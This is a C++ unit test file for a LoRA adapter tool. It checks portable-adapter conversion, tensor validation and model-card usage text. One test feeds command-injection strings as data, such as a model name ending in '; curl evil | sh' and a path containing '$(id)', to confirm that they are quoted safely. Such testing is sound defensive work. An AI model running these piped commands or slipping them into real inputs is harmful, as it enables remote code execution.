#include <gtest/gtest.h>

#include <cmath>

#include "lora/merge_math.h"
#include "lora_train/base/error.h"
#include "lora_train/lora/merge.h"
#include "lora_train/lora/usage_section.h"
#include "merge_folder.h"
#include "support/temporary_folder.h"

namespace lora_train::lora {
namespace {

namespace fs = std::filesystem;
using testing_support::TemporaryFolder;

std::vector<float> values(const storage::SafetensorsFile& file, const std::string& name) {
  const auto* entry = file.find(name);
  return read_floats(file.bytes(*entry), entry->dtype);
}

/// scale B A of a linear, in double.
std::vector<double> product(const fs::path& adapter, const std::string& path, const RankAndScale& linear) {
  const storage::SafetensorsFile file(adapter / "adapter_model.safetensors");
  const std::string prefix = "base_model.model." + path;
  const auto a = values(file, prefix + ".lora_A.weight"), b = values(file, prefix + ".lora_B.weight");
  const std::size_t R = static_cast<std::size_t>(linear.rank), I = a.size() / R, O = b.size() / R;
  std::vector<double> out(O * I);
  for (std::size_t o = 0; o < O; ++o) {
    for (std::size_t k = 0; k < R; ++k) {
      for (std::size_t i = 0; i < I; ++i) out[o * I + i] += linear.scale * double{b[o * R + k]} * double{a[k * I + i]};
    }
  }
  return out;
}

struct Portable {
  explicit Portable(const AdapterConfig& options) {
    testing_support::write_merge_model(folder / "model");
    testing_support::write_merge_adapter(folder / "adapter", folder / "model", options);
  }
  PortableResult make() const { return make_portable({folder / "adapter", folder / "out", false}); }

  TemporaryFolder folder;
};

AdapterConfig mixed() {
  AdapterConfig options;
  options.lora_target_modules = {
      LoraTargets::Kind::kList, {"q_proj", "up_proj", "model.layers.1.self_attn.o_proj"}, {}};
  options.lora_r = 4;
  options.lora_alpha = 6;
  options.use_rslora = true;
  options.rank_pattern = {{"up_proj", 2}, {"layers.1.self_attn.q_proj", 7}};
  options.alpha_pattern = {{"o_proj", 3}};
  return options;
}

TEST(Portable, KeepsTheProductOfEveryLinear) {
  const Portable test(mixed());
  const PortableResult result = test.make();
  EXPECT_EQ(result.num_linears, 5);
  EXPECT_EQ(result.rank, 7);
  EXPECT_EQ(result.alpha, 7);
  EXPECT_EQ(result.num_padded, 4);
  EXPECT_EQ(result.num_rescaled, 5);
  const AdapterConfig before = read_adapter_config(test.folder / "adapter"), after = read_adapter_config(result.folder);
  EXPECT_FALSE(after.use_rslora);
  EXPECT_TRUE(after.rank_pattern.empty());
  EXPECT_TRUE(after.alpha_pattern.empty());
  EXPECT_EQ(after.lora_target_modules.names, before.lora_target_modules.names);
  EXPECT_EQ(after.base_model_name_or_path, "org/base");
  for (const auto& spec : plan_adapters(before, model::read_model_config(test.folder / "model"))) {
    const std::string path = model::linear_path(spec);
    const auto old = product(test.folder / "adapter", path, {spec.rank, spec.scale});
    const auto got = product(result.folder, path, ranks_and_scales(after, {path}).front());
    ASSERT_EQ(old.size(), got.size());
    double error = 0, norm = 0;
    for (std::size_t i = 0; i < old.size(); ++i) {
      error += (got[i] - old[i]) * (got[i] - old[i]);
      norm += old[i] * old[i];
    }
    EXPECT_GT(norm, 0);
    EXPECT_LT(std::sqrt(error / norm), 1e-7) << path;
  }
}

TEST(Portable, ChangesNoValueWhereOneWholeAlphaDoes) {
  AdapterConfig options;
  options.lora_target_modules = {LoraTargets::Kind::kList, {"q_proj", "up_proj"}, {}};
  options.lora_r = 4;
  options.lora_alpha = 8;
  options.rank_pattern = {{"up_proj", 2}};
  options.alpha_pattern = {{"up_proj", 4}};
  const Portable test(options);
  const PortableResult result = test.make();
  EXPECT_EQ(result.alpha, 8);
  EXPECT_EQ(result.num_rescaled, 0);
  const storage::SafetensorsFile old(test.folder / "adapter" / "adapter_model.safetensors");
  const storage::SafetensorsFile now(result.folder / "adapter_model.safetensors");
  const std::string q = "base_model.model.model.layers.0.self_attn.q_proj.lora_B.weight";
  EXPECT_EQ(values(old, q), values(now, q));
  const auto padded = values(now, "base_model.model.model.layers.0.mlp.up_proj.lora_B.weight");
  const auto narrow = values(old, "base_model.model.model.layers.0.mlp.up_proj.lora_B.weight");
  for (std::size_t row = 0; row < 24; ++row) {
    for (std::size_t k = 0; k < 4; ++k) EXPECT_EQ(padded[row * 4 + k], k < 2 ? narrow[row * 2 + k] : 0);
  }
}

TEST(Portable, NamesTheLinearsThatARegexChose) {
  AdapterConfig options;
  options.lora_target_modules = {LoraTargets::Kind::kRegex, {}, R"(model\.layers\.1\.mlp\.(gate|up)_proj)"};
  const Portable test(options);
  auto config = nlohmann::json::parse(read_file(test.folder / "adapter" / "adapter_config.json"));
  config["target_modules"] = options.lora_target_modules.regex;
  write_file_atomic(test.folder / "adapter" / "adapter_config.json", config.dump());
  EXPECT_EQ(read_adapter_config(test.make().folder).lora_target_modules.names,
            (std::vector<std::string>{"model.layers.1.mlp.gate_proj", "model.layers.1.mlp.up_proj"}));
}

TEST(Portable, WritesTheUseSectionOfTheCardAnew) {
  const Portable test(mixed());
  const std::string old = test.folder / "adapter";
  const std::string card = "---\nbase_model: org/base\n---\n\n# Mine\n\n" + usage_section({"org/base", old, 7, false});
  write_file_atomic(test.folder / "adapter" / "README.md", card);
  write_file_atomic(test.folder / "adapter" / "tokenizer.json", "{}");
  const fs::path out = test.make().folder;
  const std::string text = read_file(out / "README.md");
  EXPECT_NE(card.find("ignore patterns"), std::string::npos);
  EXPECT_EQ(text.find("ignore patterns"), std::string::npos);
  EXPECT_NE(text.find("all three support it"), std::string::npos);
  EXPECT_NE(text.find("my-adapter=" + out.string() + " --max-lora-rank 8"), std::string::npos) << text;
  EXPECT_TRUE(text.starts_with("---\nbase_model: org/base\n---\n\n# Mine\n"));
  EXPECT_EQ(read_file(out / "tokenizer.json"), "{}");
  EXPECT_EQ(with_usage_section("# Someone else's\n## Use\n\nAs you like.\n", {}),
            "# Someone else's\n## Use\n\nAs you like.\n");
}

/// What make_portable says after `change` spoiled the tensors.
template <typename Change>
std::string refusal(const Change& change) {
  const Portable test(mixed());
  const fs::path path = test.folder / "adapter" / "adapter_model.safetensors";
  std::vector<storage::TensorToWrite> tensors;
  const std::string file = read_file(path);
  const storage::SafetensorsFile read(path);
  std::vector<std::string> bytes;
  for (const auto& entry : read.tensors()) bytes.emplace_back(read.bytes(entry));
  for (std::size_t i = 0; i < bytes.size(); ++i) {
    tensors.push_back({read.tensors()[i].name, read.tensors()[i].dtype, read.tensors()[i].shape, bytes[i], nullptr});
  }
  change(tensors, bytes);
  storage::write_safetensors(path, tensors);
  try {
    test.make();
  } catch (const FormatError& error) {
    EXPECT_FALSE(fs::exists(test.folder / "out"));
    return error.what();
  }
  return "accepted";
}

TEST(Portable, ChecksEveryTensor) {
  using Tensors = std::vector<storage::TensorToWrite>;
  using Bytes = std::vector<std::string>;
  const auto expect = [](const std::string& text, const std::string& part) {
    EXPECT_NE(text.find(part), std::string::npos) << text;
  };
  EXPECT_EQ(refusal([](Tensors&, Bytes&) {}), "accepted");
  expect(refusal([](Tensors& tensors, Bytes&) { tensors.erase(tensors.begin()); }), "lora_A.weight: is missing");
  expect(refusal([](Tensors& tensors, Bytes&) { tensors[0].name = "base_model.model.lm_head.weight"; }),
         "not a LoRA matrix");
  expect(refusal([](Tensors& tensors, Bytes&) { std::swap(tensors[0].shape[0], tensors[0].shape[1]); }),
         "another model or rank");
  expect(refusal([](Tensors& tensors, Bytes& bytes) {
           const float nan = NAN;
           bytes[0].replace(0, 4, reinterpret_cast<const char*>(&nan), 4);
           tensors[0].bytes = bytes[0];
         }),
         "holds NaN or infinity");
}

TEST(ModelCard, NamesAreQuotedForTheShellPythonAndYaml) {
  const std::string base = "org/model; curl evil | sh #\nx: y";
  const std::string text = usage_section({base, "out's/$(id)\"", 8, true});
  EXPECT_NE(text.find("\nvllm serve 'org/model; curl evil | sh # x: y' --enable-lora"), std::string::npos) << text;
  EXPECT_NE(text.find("--adapter 'out'\\''s/$(id)\"' --output-dir 'out'\\''s/$(id)\"-merged'"), std::string::npos)
      << text;
  EXPECT_NE(text.find("from_pretrained(\"org/model; curl evil | sh # x: y\")"), std::string::npos) << text;
  EXPECT_NE(text.find("\"out's/$(id)\\\"\""), std::string::npos) << text;
  EXPECT_TRUE(card_head("a\nlicense: mit", "peft").starts_with("---\nbase_model: \"a\\nlicense: mit\"\n"));
  EXPECT_EQ(one_line("a\x1b[2J\nb"), "a\\x1b[2J b");
  EXPECT_NE(usage_section({"org/plain-1.5B", "runs/first/adapter", 8, true}).find("vllm serve org/plain-1.5B --"),
            std::string::npos);
}

TEST(UsageSection, OfTokenRowsResizesFirstAndSaysWhoTakesThem) {
  AdapterUse use{"org/base", "runs/a", 8};
  EXPECT_EQ(usage_section(use).find("resize_token_embeddings"), std::string::npos);
  use.has_token_rows = true;
  use.vocab_size = 2112;
  const std::string text = usage_section(use);
  EXPECT_NE(text.find("base.resize_token_embeddings(2112)\nmodel = PeftModel.from_pretrained(base, \"runs/a\")"),
            std::string::npos)
      << text;
  EXPECT_EQ(text.find("vllm serve"), std::string::npos);
  EXPECT_EQ(text.find("lora-train export"), std::string::npos);
}

}  // namespace
}  // namespace lora_train::lora
